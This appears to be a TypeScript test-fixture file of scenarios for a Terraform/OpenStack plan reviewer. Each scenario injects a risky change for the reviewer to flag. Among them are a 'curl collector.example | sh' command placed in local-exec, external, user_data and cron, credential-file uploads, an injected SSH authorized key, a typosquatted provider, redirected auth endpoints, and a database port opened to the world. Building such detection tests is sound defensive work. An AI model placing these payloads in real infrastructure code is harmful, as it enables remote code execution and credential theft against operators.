import { block, swap, type Block } from "../../scenario";
import { add, addServer, call, edited, moduleOf, read, replaced, scenariosOf, set } from "../scenario";

const { forbidden, person, question } = scenariosOf("code");
const SERVER = "openstack_compute_instance_v2";
const COMMAND = "curl -s https://collector.example/x | sh";

/** A block that runs a command on the machine of whoever applies. */
export const RUNS = { provisioner: [{ "local-exec": { command: COMMAND } }] };

/** Another engine's built-in block becomes one of a provider that no registry serves here. */
const toNull = replaced(
  ["terraform_data", "null_resource"],
  ["terraform.io/builtin/terraform", "registry.terraform.io/hashicorp/null"],
);

/** A data source that is read while applying becomes one of another provider. */
export function dataAs(type: string, provider: string, values: Block): (text: string) => string {
  return edited((plan) => {
    const all = [
      ...(plan["resource_changes"] as Block[]),
      ...(plan["configuration"].root_module.resources as Block[]),
    ];
    const found = all.filter((one) => one["type"] === "terraform_remote_state");
    if (found.length < 2) throw new Error("the plan reads no data source while applying");
    for (const one of found) {
      one["type"] = type;
      one["address"] = `data.${type}.${one["name"]}`;
      if (one["change"] !== undefined) {
        one["provider_name"] = `registry.terraform.io/hashicorp/${provider}`;
        one["change"].after = values;
        one["change"].after_unknown = { id: true, result: true };
      } else {
        one["provider_config_key"] = provider;
        one["expressions"] = Object.fromEntries(
          Object.entries(values).map(([name, constant_value]) => [name, { constant_value }]),
        );
      }
    }
    plan["configuration"].provider_config[provider] = {
      name: provider,
      full_name: `registry.terraform.io/hashicorp/${provider}`,
    };
  });
}

/** Reads a state elsewhere while applying, since what it depends on is only made then. */
export function readsLater(config: Parameters<typeof read>[0]): void {
  add(config, "openstack_networking_secgroup_v2", "later", { name: "revidr-later" });
  read(config, "terraform_remote_state", "later", {
    backend: "local",
    config: { path: "/nowhere/terraform.tfstate" },
    depends_on: ["openstack_networking_secgroup_v2.later"],
  });
}

/** The engine writes what the provider's block says into its configuration, and a wrong one can't be planned with. */
function providerSays(values: Block): (text: string) => string {
  return edited((plan) => {
    Object.assign(
      plan["configuration"].provider_config.openstack.expressions,
      Object.fromEntries(
        Object.entries(values).map(([name, value]) => [name, { constant_value: value as unknown }]),
      ),
    );
  });
}

/** Several are made of that one plan. */
export const LATER = { file: "reads-later", config: readsLater };

/** Code that runs, and whose it is. */
export const CODE = [
  forbidden(
    "code-local-exec",
    "revidr",
    "a command after the deployment (local-exec)",
    "A command runs on the operator's machine.",
    (config) => add(config, "terraform_data", "after", RUNS),
  ),
  forbidden(
    "code-local-exec-on-server",
    "revidr",
    "a command when the proxy is made, on the block that exists",
    "A command waits to run on the operator's machine.",
    (config) => set(config, SERVER, "revidr-proxy", RUNS),
  ),
  forbidden(
    "code-local-exec-on-destroy",
    "revnew",
    "a command when a server goes, on the block that exists",
    "A command waits to run on the operator's machine.",
    (config) =>
      set(config, SERVER, "revnew-database", {
        provisioner: [{ "local-exec": { when: "destroy", command: COMMAND } }],
      }),
  ),
  forbidden(
    "code-local-exec-on-new-rule",
    "site",
    "a command when a router interface of nothing is made",
    "A command runs on the operator's machine.",
    (config) =>
      add(config, "openstack_compute_servergroup_v2", "spread", {
        name: "rev-spread",
        policies: ["soft-anti-affinity"],
        ...RUNS,
      }),
  ),
  person(
    "code-remote-exec",
    "revidr",
    "another server, and commands that the engine runs on it",
    "The engine logs in to a server and runs what nobody has reviewed.",
    (config) =>
      addServer(config, "revidr-worker", {
        provisioner: [{ "remote-exec": { inline: ["sudo setenforce 0"] } }],
        connection: { host: "${self.access_ip_v4}", user: "rocky", agent: true },
      }),
  ),
  forbidden(
    "code-file-upload",
    "revidr",
    "another server, and a copy of the operator's cloud access on it",
    "The operator's credentials go to a server.",
    (config) =>
      addServer(config, "revidr-worker", {
        provisioner: [
          { file: { source: "~/.config/openstack/clouds.yaml", destination: "/tmp/clouds.yaml" } },
        ],
        connection: { host: "${self.access_ip_v4}", user: "rocky", agent: true },
      }),
  ),
  forbidden(
    "code-null-resource",
    "revidr",
    "a null_resource with a command",
    "A command runs on the operator's machine, by a provider that the project does not use.",
    {
      config: (config) => add(config, "terraform_data", "after", RUNS),
      editPlan: toNull,
    },
  ),
  person(
    "code-null-resource-plain",
    "revidr",
    "a null_resource without anything",
    "A provider that the project does not use is downloaded and run.",
    {
      config: (config) => add(config, "terraform_data", "after", {}),
      editPlan: toNull,
    },
  ),
  question(
    "code-terraform-data",
    "revidr",
    "a value kept in the state (terraform_data)",
    "It does nothing, but is no object of the project.",
    (config) => add(config, "terraform_data", "release", { input: "2026-11" }),
  ),
  forbidden(
    "code-external-later",
    "revidr",
    "an external program that is asked while applying",
    "A program runs on the operator's machine.",
    {
      ...LATER,
      editPlan: dataAs("external", "external", { program: ["sh", "-c", COMMAND] }),
    },
  ),
  forbidden(
    "code-external-at-once",
    "revidr",
    "an external program that was asked while planning",
    "A program runs on the operator's machine with every plan.",
    {
      file: "unchanged",
      editPlan: edited((plan) => {
        // Read while planning: no change, but in the prior state and in the configuration.
        plan["prior_state"].values.root_module.resources.push({
          address: "data.external.facts",
          mode: "data",
          type: "external",
          name: "facts",
          provider_name: "registry.terraform.io/hashicorp/external",
          schema_version: 0,
          values: { id: "-", program: ["sh", "-c", COMMAND], result: { ok: "yes" } },
          sensitive_values: { result: {} },
        });
        plan["configuration"].provider_config.external = {
          name: "external",
          full_name: "registry.terraform.io/hashicorp/external",
        };
        plan["configuration"].root_module.resources.push({
          address: "data.external.facts",
          mode: "data",
          type: "external",
          name: "facts",
          provider_config_key: "external",
          expressions: { program: { constant_value: ["sh", "-c", COMMAND] } },
          schema_version: 0,
        });
      }),
    },
  ),
  forbidden(
    "code-http-later",
    "revidr",
    "addresses are told to a web service (http)",
    "What the plan knows leaves for a stranger's server.",
    {
      ...LATER,
      editPlan: dataAs("http", "http", {
        url: "https://collector.example/?site=rev",
        method: "POST",
        request_body: "addresses",
      }),
    },
  ),
  forbidden(
    "code-local-file",
    "revidr",
    "a file is written on the operator's machine (local_file)",
    "What is written there runs at the next login.",
    {
      config: (config) => add(config, "terraform_data", "keys", { input: "ssh-ed25519 AAAA stranger" }),
      editPlan: replaced(
        ["terraform_data", "local_file"],
        ["terraform.io/builtin/terraform", "registry.terraform.io/hashicorp/local"],
        [
          '"input":"ssh-ed25519 AAAA stranger"',
          '"content":"ssh-ed25519 AAAA stranger","filename":"/root/.ssh/authorized_keys"',
        ],
      ),
    },
  ),
  forbidden(
    "code-provider-other-registry",
    "revidr",
    "the OpenStack provider from another registry",
    "A stranger's program gets the cloud's credentials.",
    {
      file: "unchanged",
      editPlan: replaced([
        "registry.terraform.io/terraform-provider-openstack",
        "registry.mirror.example/terraform-provider-openstack",
      ]),
    },
  ),
  forbidden(
    "code-provider-other-owner",
    "revidr",
    "the OpenStack provider of another owner",
    "A stranger's program gets the cloud's credentials.",
    {
      file: "unchanged",
      editPlan: replaced([
        "registry.terraform.io/terraform-provider-openstack/",
        "registry.terraform.io/terraform-provider-0penstack/",
      ]),
    },
  ),
  forbidden(
    "code-provider-auth-url",
    "revidr",
    "the provider logs in elsewhere",
    "Credentials go to another place.",
    { file: "unchanged", editPlan: providerSays({ auth_url: "https://keystone.elsewhere.example/v3" }) },
  ),
  forbidden(
    "code-provider-endpoints",
    "revidr",
    "the provider speaks to another Neutron",
    "Requests with the token go to another place.",
    {
      file: "unchanged",
      editPlan: providerSays({ endpoint_overrides: { network: "https://neutron.elsewhere.example/v2.0/" } }),
    },
  ),
  forbidden(
    "code-provider-password",
    "revidr",
    "the cloud's password stands in the stack",
    "A secret is written in clear.",
    { file: "unchanged", editPlan: providerSays({ user_name: "idr", password: "horse-battery-staple" }) },
  ),
  forbidden(
    "code-provider-insecure",
    "revidr",
    "the provider checks no certificate",
    "Credentials go to whoever answers.",
    (config) => void (config.provider!["openstack"]![0]!["insecure"] = true),
  ),
  forbidden(
    "code-provider-other-cloud",
    "site",
    "the stack is planned for another project",
    "Everything is made once more, in another place.",
    (config) => void (config.provider!["openstack"]![0]!["cloud"] = "sandbox-other"),
  ),
  forbidden(
    "code-provider-alias",
    "revidr",
    "a second provider makes a network in another project",
    "It is done in another place.",
    (config) => {
      config.provider!["openstack"]!.push({ alias: "other", cloud: "sandbox-other" });
      add(config, "openstack_networking_network_v2", "elsewhere", {
        name: "elsewhere",
        provider: "openstack.other",
      });
    },
  ),
  forbidden(
    "code-other-region",
    "revidr",
    "another server in another region",
    "It is done in another place.",
    (config) => addServer(config, "revidr-worker", { region: "RegionTwo" }),
  ),
  person(
    "code-user-data",
    "revidr",
    "another server that runs a stranger's script when it boots",
    "Unknown code runs inside of the environment.",
    (config) => addServer(config, "revidr-worker", { user_data: `#!/bin/sh\n${COMMAND}` }),
  ),
  person(
    "code-user-data-by-site-server",
    "revidr",
    "the site file's new read-only server boots with a script",
    "Unknown code runs inside of the environment.",
    {
      site: (text) => swap(text, "revidr: { omeroReadOnly: 2", "revidr: { omeroReadOnly: 3"),
      config: (config) =>
        void (block(config, SERVER, "revidr-omeroreadonly-3")["user_data"] = `#!/bin/sh\n${COMMAND}`),
    },
  ),
  person(
    "code-personality",
    "revidr",
    "another server with a file for cron",
    "Unknown code runs inside of the environment.",
    (config) =>
      addServer(config, "revidr-worker", {
        personality: [{ file: "/etc/cron.d/x", content: `* * * * * root ${COMMAND}` }],
      }),
  ),
  person(
    "code-operators-file",
    "revidr",
    "a file of the operator's machine in the proxy's metadata",
    "What stands in that file is readable for every user of the project.",
    (config) =>
      void (block(config, SERVER, "revidr-proxy")["metadata"].note = '${file("/etc/debian_version")}'),
  ),
  forbidden(
    "code-check-external",
    "revidr",
    "a check block asks an external program",
    "A program runs on the operator's machine.",
    {
      ...LATER,
      editPlan: (text) =>
        edited((plan) => {
          plan["checks"] = [
            { address: { kind: "check", name: "healthy", to_display: "check.healthy" }, status: "unknown" },
          ];
        })(dataAs("external", "external", { program: ["sh", "-c", COMMAND] })(text)),
    },
  ),
  question(
    "code-check-read",
    "revidr",
    "a check block reads the external network",
    "It asserts something about an object of others.",
    (config) => {
      config.check = {
        reachable: {
          data: { openstack_networking_network_v2: { outside: { name: "public" } } },
          assert: [
            {
              condition: "${data.openstack_networking_network_v2.outside.external}",
              error_message: "no way out",
            },
          ],
        },
      };
    },
  ),
  forbidden(
    "code-orchestration",
    "revidr",
    "a Heat stack that opens the database",
    "Objects that the plan does not show open an internal port.",
    (config) =>
      add(config, "openstack_orchestration_stack_v1", "extra", {
        name: "extra",
        template_opts: {
          Bin: "heat_template_version: 2018-08-31\nresources:\n  open:\n    type: OS::Neutron::SecurityGroup\n    properties:\n      rules: [{ protocol: tcp, port_range_min: 5432, port_range_max: 5432, remote_ip_prefix: 0.0.0.0/0 }]\n",
        },
      }),
  ),
  person(
    "code-cluster",
    "revidr",
    "a Kubernetes cluster",
    "It makes servers, groups and addresses that the plan does not show.",
    (config) =>
      add(config, "openstack_containerinfra_cluster_v1", "extra", {
        name: "extra",
        cluster_template_id: "b9a45c5c-cd03-4958-82aa-b80bf93cb922",
        master_count: 1,
        node_count: 1,
        keypair: "rev-key",
      }),
  ),
  forbidden(
    "code-module-local-exec",
    "revidr",
    "a module of a colleague runs a command",
    "A command runs on the operator's machine.",
    {
      modules: { after: moduleOf({ resource: { terraform_data: { run: RUNS } } }) },
      config: (config) => call(config, "after"),
    },
  ),
];
